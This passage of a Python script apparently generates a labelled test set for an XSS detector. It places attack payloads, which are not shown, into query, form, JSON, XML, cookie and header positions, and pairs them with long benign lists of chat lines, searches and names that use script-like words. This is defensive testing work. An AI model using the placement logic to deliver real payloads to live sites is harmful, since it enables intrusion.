    name = RS_NAMES[(k + k // len(RS_PATHS)) % len(RS_NAMES)]
    if mode == "rs-query":
        return _get(_query(path, [(name, payload)]))
    if mode == "rs-form":
        return _form(path, [(name, payload)])
    if mode == "rs-json":
        return _json(path, {name: payload})
    if mode == "rs-xml":
        return {"method": "POST", "uri": path, "body": _xml_body(name, payload),
                "headers": {"User-Agent": UA, "Accept": "*/*", "Content-Type": "application/xml"}}
    if mode == "rs-cookie":
        return _with_header(_get(path), "Cookie", f"{name}={pct(payload)}")
    return _with_header(_get(path), mode.split(":", 1)[1], payload)


def _pick(order: list[str], k: int, payload: str) -> str:
    for step in range(len(order)):
        place = order[(k + step) % len(order)]
        if _fits(place, payload):
            return place
    raise AssertionError(f"no placement fits {payload!r}")


def payloads() -> Iterator[tuple[str, str]]:
    """(sub-family, payload): each title's atomic fragments, then the same fragments obfuscated."""
    for sub, pairs in PAIRS.items():
        for atomic, _ in pairs:
            yield sub, atomic
        for _, obfuscated in pairs:
            yield sub, obfuscated


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for k, (sub, payload) in enumerate(payloads()):
        reals, modes = ONLY.get(sub, (REAL, RS_MODES))
        real = _pick(reals, k, payload)
        mode = _pick(modes, k, payload)
        for placement, rec in ((real, real_place(real, k, payload)), (mode, rs_place(mode, k, payload))):
            n += 1
            yield {**rec, "id": f"{NAME}-xss-{n:04d}", "category": "xss", "sub": sub, "placement": placement,
                   "payload": payload}


# Benign: the same words as people type them. Chat and bios (both through chat_and_bio).
CHAT = [
    "the onboarding script runs every morning at 9, don't kill it",
    "can someone review my PR? it moves the analytics script to the footer",
    "set an alert on the p95 latency, page me if it goes over 400ms",
    "PagerDuty alert fired twice last night, both false alarms",
    "the onload handler in the old dashboard is gone, we use React now",
    "onerror we retry three times, then log and move on",
    "JavaScript fatigue is real, but I still like TypeScript",
    "the javascript bundle dropped from 900kB to 610kB after tree shaking",
    "document the new endpoint before Friday please",
    "the design document is in Confluence under Platform / Edge",
    "cookie banner copy was approved by legal",
    "we store only a session cookie, no tracking cookies at all",
    "window seat or aisle for the offsite flight?",
    "maintenance window is Sunday 02:00-04:00 UTC",
    "location of the team dinner: the Italian place near the station",
    "please update your location in the HR tool",
    "style guide says sentence case for headings",
    "the new style for the buttons looks great in dark mode",
    "object storage costs went down 12% after lifecycle rules",
    "embed the Loom video in the release notes",
    "the applet we used for the 2009 intranet finally got retired",
    "import the CSV into the sheet and share it with finance",
    "base salary bands are updated for 2025",
    "our base image is debian bookworm slim",
    "meta: can we keep this channel for incidents only?",
    "the charset on the export is UTF-8, Excel needs the BOM though",
    "UTF-7 is obsolete, nobody should still be sending it",
    "link to the runbook is pinned in this channel",
    "href and src attributes are sanitized by DOMPurify on the client",
    "the frame rate on the demo laptop is terrible",
    "iframe embeds from YouTube need the privacy-enhanced domain",
    "marquee projects for Q3: billing revamp and SSO",
    "the cursor blink rate setting is in accessibility prefs",
    "Angular 17 migration is planned for next quarter",
    "the constructor takes a config object and a logger",
    "template literals with backticks are cleaner than string concatenation",
    "eval results for the search ranking model are in the notebook",
    "prompt engineering workshop on Thursday, sign up in the sheet",
    "please confirm your attendance by replying here",
    "setTimeout of 0 just defers to the next tick, it's not magic",
    "String.fromCharCode showed up in the minified vendor code, that's normal",
    "atob and btoa are fine for ASCII but not for UTF-8 text",
    "self-review is due Monday, peer reviews the week after",
    "this is the top priority for the sprint",
    "parent company announced the reorg today",
    "the object model for invoices has a parent and children",
    "vbscript macros are blocked by policy on all laptops",
    "the embed code for the status page widget is in the wiki",
    "I <3 the new CI runners, builds are twice as fast",
    "a < b and b > c, so a < c, QED",
    "price went from 10 -> 12 EUR per seat",
    "use {{first_name}} in the email template, not {first_name}",
    "the Jinja template uses {{ user.name }} and a for loop",
    "Handlebars helpers: {{#each items}} ... {{/each}}",
    "mustache syntax {{name}} is what the CMS supports",
    "[] + [] is an empty string in JS, one of those wat talks",
    "the JSFuck talk was hilarious, six characters for everything",
    "window.location is what the redirect helper sets, after validation",
    "document.cookie is not readable for HttpOnly cookies, that's the point",
    "innerHTML is banned in our lint config, use textContent",
    "the parentNode of the modal is the portal root",
    "CDATA sections show up in the SOAP responses from the bank",
    "HTML comments like <!-- TODO --> should not ship to prod",
    "the xlink namespace is deprecated in SVG 2",
    "formaction on the second button posts to the draft endpoint",
    "data URIs for small icons save a request",
    "the base64 image in the email signature is 40kB, too big",
    "the @import in the old stylesheet slows down first paint",
    "the ENTITY list in the DTD is generated",
    "xmlns declarations go on the root element",
    "the livescript compiler was a thing before CoffeeScript",
    "background images are lazy loaded now",
    "the expression in the spreadsheet cell is wrong, should be SUM not AVG",
    "behavior of the toggle changed in v2, see the changelog",
    "VML was Microsoft's vector format before SVG",
    "the meta description is 160 characters max",
    "http-equiv refresh is an old way to redirect, use a 301",
    "set-cookie headers are stripped by the CDN for static assets",
    "content-type for the upload must be image/png or image/jpeg",
    "link rel=preload helps the hero image",
    "the base href of the docs site is /docs/",
    "the applet tag is long gone from HTML5",
    "object tags for PDFs are replaced by the viewer",
    "the ¼ and ¾ fractions render fine in the recipe app",
    "recipe: ¾ cup flour, ¼ tsp salt, ½ cup milk",
    "the +ADw- thing in the old bug was UTF-7 encoding, closed as won't fix",
    "onmouseover tooltips are not accessible, use focus too",
    "the autofocus on the search box annoys screen reader users",
    "onfocus we select all text in the field",
    "the details element with open attribute is nice for FAQs",
    "ontoggle fires when the details element opens",
    "the textarea autosize plugin was removed",
    "the plaintext export drops the formatting",
    "the layer order in Figma is off on the settings page",
    "isindex is one of those tags nobody remembers",
    "bgsound, blink and marquee: the 90s web",
    "the dir attribute is needed for Arabic and Hebrew text",
    "location.href vs location.assign, same thing mostly",
    "the name field accepts up to 80 characters",
    "valueOf and toString are both called during coercion",
    "the opener of the popup is null with noopener",
    "the domain of the cookie must match the app domain",
    "body.innerHTML is what the legacy editor sets, we're replacing it",
    "the prototype of the component library is on Storybook",
    "alert fatigue is why we cut the noisy monitors",
    "confirm dialogs are replaced by the undo toast",
    "prompt me before you merge to main",
    "eval metrics: precision 0.91, recall 0.87",
    "setInterval polling every 30s is fine for the status page",
    "atob is available in Node 16+",
    "String.fromCharCode(65) is 'A', nothing scary",
    "the find function in the sheet is Ctrl+F",
    "throw an error if the config is missing, don't default silently",
    "onerror callback logs to Sentry",
    "the global this in a module is undefined",
    "globalThis works in both browser and Node",
    "frames per second dropped after the update",
    "self-hosted runners need more disk",
    "top 10 customers by revenue are in the dashboard",
    "parent/child tickets in Jira are confusing",
    "the window functions in Postgres saved the report",
    "document scanning at the front desk is broken",
    "the script for the all-hands is in the shared drive",
    "Courier New is the script font on the certificate? no, it's Great Vibes",
    "the Apple Script to rename files still works on Sonoma",
    "Google Apps Script sends the weekly digest",
    "the screenplay script for the product video is approved",
    "Lua scripts in the gateway are reviewed by two people",
    "bash script to rotate the logs is in ops/",
    "the alert box on the login page is red for errors, yellow for warnings",
    "the onload time of the landing page is 1.2s",
    "the style attribute is banned by our CSP, use classes",
    "the iframe sandbox allows scripts but not top navigation",
    "CSP script-src 'self' is enforced on the admin panel",
    "object-fit: cover fixes the avatar stretching",
    "the embed width should be 100%",
    "import maps landed in all browsers",
    "the base URL of the API is https://api.example.com/v1",
    "the meta tags for social previews need og:image",
    "charset=utf-8 is the default for JSON anyway",
    "link previews in Slack use the og tags",
    "the vmlframe thing came up in an old security training",
    "the vbscript: scheme is blocked everywhere, fine",
    "javascript: links are flagged by our linter",
    "the jsfuck-looking code in the bundle is just minified ternaries",
    "AngularJS 1.x is end of life, the old admin still uses it",
    "ng-app on the body tag is from the old AngularJS admin",
    "the constructor.name trick breaks after minification",
    "the name attribute on the form is used by the tests",
    "location services must be on for the mobile check-in",
    "the cookie policy page is linked in the footer",
    "the document title should include the page name",
]
# Typed into the admin panel's search box, and searched through the API.
SEARCHES = [
    "script", "alert", "onload", "javascript", "document", "cookie", "window", "location", "style", "object",
    "embed", "applet", "import", "base", "meta", "charset", "link", "frame", "marquee", "angular",
    "constructor", "eval", "prompt", "confirm", "template", "Scott Script", "Alerton", "Windows 11",
    "Base Camp Ltd", "Meta Platforms", "Object Computing", "Frame Studio", "Link Logistics",
    "Embed Labs", "Import Export GmbH", "Style & Co", "Document Solutions", "Location Scout",
    "Cookie Jar Bakery", "Marquee Events", "Angular Partners", "Constructor Group", "Prompt Care",
    "Confirm Travel", "Template Works", "O'Brien", "D'Angelo", "Smith & Jones", "AT&T", "R&D",
    "100% cotton", "C++ developer", "C# and .NET", "Node.js", "Vue.js", "<3", "a < b", "x > 0",
    "50% off", "$5 coupon", "#general", "@channel", "email@example.org", "+49 30 1234567",
    "ann.lee", "jose garcia", "Zoë", "François", "Łukasz", "Søren", "Müller", "Nguyễn", "李", "Ωmega",
    "script writer", "alert manager", "document controller", "cookie chef", "window cleaner",
    "style consultant", "object designer", "base jumper", "link building", "frame maker",
    "onboarding", "on-call", "online", "onerror handling", "onload speed", "javascript developer",
    "javascript:void docs", "html basics", "css style guide", "vbscript migration", "utf-7", "utf-8",
    "base64", "data:image", "href", "src", "iframe policy", "ng-app", "{{", "}}", "[]", "()",
    "setTimeout", "setInterval", "fromCharCode", "atob", "innerHTML", "parentNode", "CDATA", "<!--",
    "http-equiv", "xmlns", "xlink", "formaction", "@import", "ENTITY", "expression", "behavior",
]
PROSE = [
    "Please alert the front desk when the courier arrives",
    "The script for the webinar is attached; document any changes in the doc",
    "Our window cleaning contractor comes on the first Monday of the month",
    "The cookie jar in the kitchen is for everyone",
    "Location: Building B, 3rd floor, room 3.14",
    "Style: business casual for the client visit",
    "Object of the meeting: agree on the Q3 roadmap",
    "Embed the chart in the board deck, not a screenshot",
    "Import duties for the Swiss shipment were paid",
    "Base rate plus 2% commission",
    "Meta-review of the last three incidents is due",
    "Charset issues in the CSV export, ticket #4411",
    "Link to the recording: see the calendar invite",
    "Frame agreement with the supplier renewed until 2026",
    "Marquee client: Acme Corp, renewal in October",
    "Angular momentum lecture notes, week 5",
    "Constructor Ltd. invoice 2024-117 is overdue",
    "Evaluation (eval) of the vendor shortlist is complete",
    "Prompt payment discount: 2% within 10 days",
    "Confirm the booking for 12 people at 19:30",
    "Template for the quarterly report v3",
    "He said: \"it's fine\" and left at 5 o'clock",
    "Terms & conditions apply; see section 4(b)",
    "Temperature range: -5 < t < 30 degrees",
    "Ratio 3:2, size 1920x1280",
    "Items: [apples, pears] and {milk, bread}",
    "Formula: (a + b) * c = 42",
    "The applet era ended with Java 11",
    "Parent-teacher evening on Thursday",
    "Top-level domain is .example",
    "Self-assessment form is in the portal",
    "Global team call at 16:00 CET",
    "Frames for the exhibition arrive Tuesday",
    "Document ID: DOC-2024-0042",
    "Alert level raised to amber by the weather service",
    "Cookie consent rate is 71% this month",
    "Set timeout for the kiosk to 5 minutes",
    "Find me at the booth, number 127",
    "Throw the old monitors away? No, recycle them",
    "Name: Anne-Marie O'Connor-Smith",
    "Value of the contract: EUR 120,000",
    "To whom it may concern, regarding document 4 of 7",
    "¼ of the budget goes to marketing, ¾ to engineering",
    "The plus sign (+) and minus sign (-) keys are swapped on that keyboard",
    "Use the template {{customer_name}} placeholder in the letter",
    "Fractions: ½, ¼, ¾; currency: £, €, ¥",
    "Follow-up: details open in the attached sheet",
    "Textarea fields accept up to 2,000 characters",
    "Layer 2 switch in rack 4 needs replacing",
    "The BASE jump club newsletter",
]
PUBLIC_URLS = [
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/Window/alert",
    "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/iframe",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/embed",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/object",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/base",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/meta",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/link",
    "https://developer.mozilla.org/en-US/docs/Web/API/Element/innerHTML",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/eval",
    "https://developer.mozilla.org/en-US/docs/Web/API/setTimeout",
    "https://developer.mozilla.org/en-US/docs/Web/API/Window/location",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Template_literals",
    "https://developer.mozilla.org/en-US/docs/Web/CSS/@import",
    "https://angular.io/guide/template-syntax",
    "https://docs.angularjs.org/guide/expression",
    "https://en.wikipedia.org/wiki/UTF-7",
    "https://en.wikipedia.org/wiki/JSFuck",
    "https://en.wikipedia.org/wiki/Cross-site_scripting",
    "https://www.w3.org/TR/SVG2/linking.html",
    "https://html.spec.whatwg.org/multipage/scripting.html",
    "https://example.com/blog/2024/05/why-we-dropped-javascript-frameworks",
    "https://example.com/search?q=script+writer&page=2",
    "https://shop.example.org/cookies/chocolate-chip?size=large",
    "https://www.example.co.uk/windows/double-glazing#prices",
    "https://cdn.example.com/js/app.min.js?v=4.2.1",
    "https://cdn.example.com/css/style.css?v=4.2.1",
    "https://img.example.com/avatars/alert-fox.png",
    "https://maps.example.com/location/52.52,13.405",
    "https://docs.example.com/api/v2/objects/embed",
    "https://status.example.com/incidents/onload-latency",
    "https://example.com/base/meta/charset-utf-8",
    "https://example.com/templates/{id}/preview",
    "https://example.com/recipes/%C2%BE-cup-flour",
]
PEOPLE = [
    ("Ann Lee", "12 Script Street, Leeds"), ("José García", "Calle de la Ventana 4, Madrid"),
    ("Anne-Marie O'Connor", "7 Cookie Lane, Cork"), ("Zoë Müller", "Dokumentenweg 3, Berlin"),
    ("Łukasz Nowak", "ul. Okienna 8, Kraków"), ("Søren Kierkegaard", "Location Allé 1, Aarhus"),
    ("Nguyễn Văn An", "15 Embed Road, Hanoi"), ("李雷", "Object Plaza 9, Shanghai"),
    ("Alert Bailey", "3 Onload Close, Bristol"), ("Frame Johnson", "44 Marquee Ave, Austin"),
    ("Constructor & Sons", "1 Prototype Way, Boston"), ("Meta Andersson", "Basgatan 12, Malmö"),
    ("Angela Angular", "5 Template Row, Dublin"), ("Base Camp Outfitters", "2 Import Road, Denver"),
    ("Style Loft", "Link Street 88, Oslo"), ("Prompt Plumbing", "9 Confirm Court, Perth"),
    ("Eval Analytics", "6 Applet Yard, Cardiff"), ("Windows & Doors Ltd", "Unit 4, Charset Park"),
    ("Javier Script", "Av. Documento 100, Lima"), ("O'Neil & D'Arcy", "Suite ¾, Tower 2, Sydney"),
]
REFERERS = [
    "https://example.com/search?q=script+tutorial",
    "https://www.google.com/search?q=alert+manager+config",
    "https://duckduckgo.com/?q=document.cookie+httponly",
    "https://example.org/blog/javascript-tips?utm_source=newsletter",
    "https://app.example.com/admin/users?filter=style",
    "https://news.example.com/items?id=41874&sort=top",
    "https://example.com/templates/welcome?lang=en",
    "https://example.com/docs/embed-widget#options",
    "https://www.bing.com/search?q=window+cleaner+near+me",
    "https://example.com/recipes?q=cookie",
]
PREFS = ["theme=dark", "lang=en-GB", "tz=Europe/Berlin", "layout=compact", "font=script",
         "notify=alert", "sort=location", "view=window", "style=classic", "tab=documents"]
# what a regression suite sends as its negative tests: ordinary values on the same paths and names
RS_BENIGN = [
    "hello world", "script", "alert", "javascript tutorial", "window", "document.pdf", "cookie recipe",
    "my location", "style guide", "object", "1234", "a+b", "x < y", "Tom & Jerry", "O'Reilly", "{{name}}",
    "[1, 2, 3]", "(555) 123-4567", "café", "¾ cup", "onload time", "base camp", "meta data", "utf-7",
    "frame", "applet", "import", "embed", "link", "constructor",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    n = yield from numbered((prose_request(s) for s in SEARCHES), f"{NAME}-search", n, "form")
    n = yield from numbered((_get(_query("/api/users", [("q", s), ("page", "1")])) for s in SEARCHES),
                            f"{NAME}-search", n, "query")
    people = [_json("/api/users", {"name": who, "address": where, "email": "someone@example.org"})
              for who, where in PEOPLE]
    n = yield from numbered(people, f"{NAME}-name", n, "json")
    headers = [_with_header(_get("/api/users?page=1"), "Referer", r) for r in REFERERS]
    headers += [_with_header(_get("/api/users?page=1"), "Cookie", f"session=abc123; {p}") for p in PREFS]
    n = yield from numbered(headers, f"{NAME}-header", n, "header")
    rs = [rs_place(RS_MODES[k % len(RS_MODES)], k, text) for k, text in enumerate(RS_BENIGN * 3)]
    n = yield from numbered(rs, f"{NAME}-rsben", n, "rs")
    more = [slack_message(text, 900 + i) for i, text in enumerate(PROSE)]
    n = yield from numbered(more, f"{NAME}-slack", n, "json")
    yield from numbered((bio_request(text) for text in SEARCHES), f"{NAME}-bio", n, "json")


if __name__ == "__main__":
    print_records(attacks(), benign())
